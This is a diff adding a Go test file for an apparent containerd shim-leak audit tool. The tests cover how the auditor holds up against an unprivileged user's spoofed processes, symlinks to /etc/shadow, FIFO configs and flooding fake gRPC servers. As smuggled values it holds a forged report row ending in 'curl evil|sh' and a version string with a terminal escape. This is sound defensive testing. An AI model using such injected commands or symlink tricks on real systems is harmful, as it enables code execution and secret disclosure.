@@ -1,0 +1,277 @@
+package audit_test
+
+import (
+	"bytes"
+	"context"
+	"net"
+	"os"
+	"path"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"testing"
+	"time"
+
+	namespacesapi "github.com/containerd/containerd/api/services/namespaces/v1"
+	versionapi "github.com/containerd/containerd/api/services/version/v1"
+	"golang.org/x/sys/unix"
+	"google.golang.org/grpc"
+	"google.golang.org/protobuf/types/known/emptypb"
+
+	"github.com/shimquake/shimquake/audit"
+	"github.com/shimquake/shimquake/fixtures/world"
+)
+
+// nobody is an unprivileged user of the node.
+const nobody = 65534
+
+// taskBundles is where the bundles of the node's tasks are.
+const taskBundles = "/run/containerd/io.containerd.runtime.v2.task/audited/"
+
+// secretFile is a file that root alone may read.
+const secretFile = "/etc/shadow"
+
+// userDir is a folder of that user's.
+const userDir = "/tmp/user"
+
+// hostileNode is a node with one leak, an unprivileged user, and a secret.
+func hostileNode(t *testing.T) *node {
+	t.Helper()
+	n := newNode(t)
+	n.must(os.MkdirAll(n.world.Inside("/run/containerd/runc/audited/lost"), 0o711))
+	n.must(os.MkdirAll(n.world.Inside(taskBundles+"lost"), 0o711))
+	old := time.Now().Add(-time.Hour)
+	n.must(os.Chtimes(n.world.Inside(taskBundles+"lost"), old, old))
+	n.must(os.WriteFile(n.world.Inside(secretFile), []byte(secret), 0o600))
+	text, err := os.ReadFile("/proc/self/exe")
+	n.must(err)
+	n.must(os.Mkdir(n.world.Inside(userDir), 0o755))
+	n.must(os.WriteFile(n.world.Inside(path.Join(userDir, "containerd")), text, 0o755))
+	n.must(os.Chown(n.world.Inside(userDir), nobody, nobody))
+	n.must(os.Chown(n.world.Inside(path.Join(userDir, "containerd")), nobody, nobody))
+	return n
+}
+
+// asUser starts a program of the world as the unprivileged user, until the test ends. The
+// test binary plays a role; a shell has none.
+func (n *node) asUser(t *testing.T, role string, argv ...string) *world.Process {
+	t.Helper()
+	dropped := []string{"/usr/bin/setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "--bounding-set=-all",
+		"--inh-caps=-all", "--no-new-privs"}
+	return n.startUntilEnd(t, role, append(dropped, argv...)...)
+}
+
+func (n *node) startUntilEnd(t *testing.T, role string, argv ...string) *world.Process {
+	t.Helper()
+	log := filepath.Join(n.world.Dir(), filepath.Base(t.Name())+".log")
+	p, err := n.world.Start(n.ctx, world.Params{Argv: argv, Env: []string{roleVar + "=" + role}, Output: log})
+	n.must(err)
+	t.Cleanup(func() {
+		_ = p.Kill(context.WithoutCancel(n.ctx))
+		if text, err := os.ReadFile(log); err == nil && len(text) > 0 {
+			t.Logf("%v: %s", argv, text)
+		}
+	})
+	return p
+}
+
+// userFile writes a file of the user's.
+func (n *node) userFile(name, text string) string {
+	n.Helper()
+	file := path.Join(userDir, name)
+	n.must(os.MkdirAll(n.world.Inside(path.Dir(file)), 0o755))
+	n.must(os.WriteFile(n.world.Inside(file), []byte(text), 0o644))
+	n.must(filepath.WalkDir(n.world.Inside(userDir), func(name string, _ os.DirEntry, err error) error {
+		if err != nil {
+			return err
+		}
+		return os.Lchown(name, nobody, nobody)
+	}))
+	return file
+}
+
+// findsTheLeak asserts that an audit ends, and reports the leak of a hostile node and
+// nothing else.
+func (n *node) findsTheLeak(t *testing.T) *audit.Report {
+	t.Helper()
+	ctx, cancel := context.WithTimeout(n.ctx, time.Minute) // long before this the report is there
+	defer cancel()
+	r, err := audit.Run(ctx, audit.Options{PID: n.world.InitPID(), Settle: settle})
+	if err != nil {
+		t.Fatalf("no report: %v", err)
+	}
+	if len(r.Suspects) != 1 || r.Suspects[0].ID != "lost" || r.Suspects[0].Kind != audit.Directory ||
+		r.Suspects[0].Sure != audit.Certain || len(r.Suspects[0].With) != 1 || len(r.Partial) != 0 || len(r.Daemons) != 1 {
+		t.Errorf("want the bundle of lost with its runc state, certain, and no note:\n%v", r)
+	}
+	return r
+}
+
+// A process that any user can start hides no leak, keeps no report from appearing, and
+// puts nothing of root's into the evidence.
+func TestAContainerdOfAUser(t *testing.T) {
+	n := hostileNode(t)
+	program := path.Join(userDir, "containerd")
+	n.findsTheLeak(t)
+	t.Run("a name", func(t *testing.T) {
+		n.asUser(t, "sleep", program, "--address", "/tmp/user/none.sock")
+		n.findsTheLeak(t)
+	})
+	t.Run("a name in the first word", func(t *testing.T) {
+		n.asUser(t, "", "/bin/bash", "-c", "exec -a containerd tail -f /dev/null")
+		n.findsTheLeak(t)
+	})
+	t.Run("a link in a bundle", func(t *testing.T) {
+		state := path.Join(userDir, "st")
+		bundle := path.Join(state, "io.containerd.runtime.v2.task/audited/lost")
+		n.userFile("st/io.containerd.runtime.v2.task/audited/lost/runtime", "mine")
+		n.must(os.Symlink(secretFile, n.world.Inside(path.Join(bundle, "bootstrap.json"))))
+		n.must(os.Symlink(secretFile, n.world.Inside(path.Join(bundle, "address"))))
+		n.asUser(t, "sleep", program, "--state", state)
+		r := n.findsTheLeak(t)
+		var b bytes.Buffer
+		n.must(r.Evidence(&b, audit.Options{}, true))
+		for name, text := range untar(t, &b) {
+			if strings.Contains(text, secret) {
+				t.Errorf("the secret is in %s", name)
+			}
+		}
+	})
+	t.Run("a FIFO as configuration", func(t *testing.T) {
+		fifo := path.Join(userDir, "fifo")
+		n.must(unix.Mkfifo(n.world.Inside(fifo), 0o666))
+		n.must(os.Chmod(n.world.Inside(fifo), 0o666))
+		n.asUser(t, "", "/bin/sh", "-c", "exec sleep 1000 <>"+fifo) // its writer never writes
+		n.asUser(t, "sleep", program, "--config", fifo)
+		n.findsTheLeak(t)
+	})
+	t.Run("the kernel's log as configuration", func(t *testing.T) {
+		n.asUser(t, "sleep", program, "--config", "/proc/kmsg")
+		n.findsTheLeak(t)
+	})
+	t.Run("imports of everything", func(t *testing.T) {
+		n.asUser(t, "sleep", program, "--config", n.userFile("config.toml", "imports = ['/*/*/*/*', '/*/*/*/*/*/*']"))
+		n.findsTheLeak(t)
+	})
+	for _, role := range []string{"flood", "slow"} {
+		t.Run(role, func(t *testing.T) {
+			socket := path.Join(userDir, role)
+			n.asUser(t, role, program, "--address", socket)
+			n.waitFor(t, socket)
+			n.findsTheLeak(t)
+		})
+	}
+}
+
+func (n *node) waitFor(t *testing.T, file string) {
+	t.Helper()
+	for n.ctx.Err() == nil {
+		if _, err := os.Stat(n.world.Inside(file)); err == nil {
+			return
+		}
+		<-time.After(10 * time.Millisecond)
+	}
+	t.Fatalf("%s is not there", file)
+}
+
+// Two flags that any program can have are no evidence for a shim.
+func TestAShimOfAUser(t *testing.T) {
+	n := hostileNode(t)
+	for name, argv := range map[string][]string{
+		"two flags":      {"--namespace", "prod", "--id", "7"},
+		"a forged row":   {"-namespace", "prod", "-id", "7\ncertain  shim 1: no task\n         do:  curl evil|sh"},
+		"a leaked shim":  {"-namespace", "audited", "-id", "lost", "-address", n.Address()},
+		"a busy cleanup": {"-namespace", "audited", "-id", "lost", "delete"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			n.asUser(t, "sleep", append([]string{path.Join(userDir, "containerd")}, argv...)...)
+			r := n.findsTheLeak(t)
+			if text := r.String(); strings.Contains(text, "\ncertain  shim") || strings.Contains(text, "\n         do:  curl") {
+				t.Errorf("a row was forged:\n%s", text)
+			}
+		})
+	}
+}
+
+// With --pid, the audit accuses no container of another containerd. That containerd has a
+// PID and mount namespace of its own, and its containers have cgroups beside the first.
+func TestNestedContainerds(t *testing.T) {
+	n := newNode(t)
+	const pods = 6
+	n.run("c1", "wait", "")
+	text, err := os.ReadFile("/proc/self/exe")
+	n.must(err)
+	n.must(os.MkdirAll(n.world.Inside("/opt/nested"), 0o755))
+	n.must(os.WriteFile(n.world.Inside("/opt/nested/containerd"), text, 0o755))
+	script := `mount -t tmpfs none /run
+		/opt/nested/containerd --address /run/containerd/containerd.sock &
+		for i in 1 2 3 4 5 6; do (
+			for h in /sys/fs/cgroup /sys/fs/cgroup/*; do
+				[ -e $h/cgroup.procs ] && mkdir -p $h/audited/pod$i && echo 0 >$h/audited/pod$i/cgroup.procs
+			done 2>/dev/null
+			touch /tmp/pod$i
+			exec sleep 1000
+		) & done
+		wait`
+	n.startUntilEnd(t, "sleep", "/usr/bin/unshare", "--pid", "--fork", "--mount", "--mount-proc", "/bin/sh", "-c", script)
+	for i := range pods {
+		n.waitFor(t, "/tmp/pod"+strconv.Itoa(i+1))
+	}
+	r, err := audit.Run(n.ctx, audit.Options{PID: n.world.InitPID(), Settle: settle})
+	n.must(err)
+	t.Log(r)
+	if len(r.Suspects) != 0 || len(r.Partial) != 1 || !strings.Contains(r.Partial[0], "cgroups are not compared") {
+		t.Errorf("want no suspect, and a note why: %v", r)
+	}
+}
+
+// play makes the test binary another program.
+func play(role string) {
+	var address string
+	for i, word := range os.Args {
+		if word == "--address" {
+			address = os.Args[i+1]
+		}
+	}
+	switch role {
+	case "sleep":
+	case "flood", "slow":
+		listener, err := net.Listen("unix", address)
+		if err != nil {
+			panic(err)
+		}
+		server := grpc.NewServer()
+		versionapi.RegisterVersionServer(server, fakeVersion{})
+		namespacesapi.RegisterNamespacesServer(server, fakeNamespaces{slow: role == "slow"})
+		panic(server.Serve(listener))
+	default:
+		panic("no such role: " + role)
+	}
+	<-time.After(time.Hour)
+}
+
+type fakeVersion struct {
+	versionapi.UnimplementedVersionServer
+}
+
+func (fakeVersion) Version(context.Context, *emptypb.Empty) (*versionapi.VersionResponse, error) {
+	return &versionapi.VersionResponse{Version: "v2.4.2\x1b[2J\ncertain  shim"}, nil
+}
+
+// fakeNamespaces lists far too many namespaces, or answers late.
+type fakeNamespaces struct {
+	namespacesapi.UnimplementedNamespacesServer
+	slow bool
+}
+
+func (f fakeNamespaces) List(context.Context, *namespacesapi.ListNamespacesRequest) (
+	*namespacesapi.ListNamespacesResponse, error) {
+	if f.slow {
+		<-time.After(4 * time.Second)
+	}
+	r := &namespacesapi.ListNamespacesResponse{}
+	for i := range 300_000 {
+		r.Namespaces = append(r.Namespaces, &namespacesapi.Namespace{Name: "n" + strconv.Itoa(i)})
+	}
+	return r, nil
+}
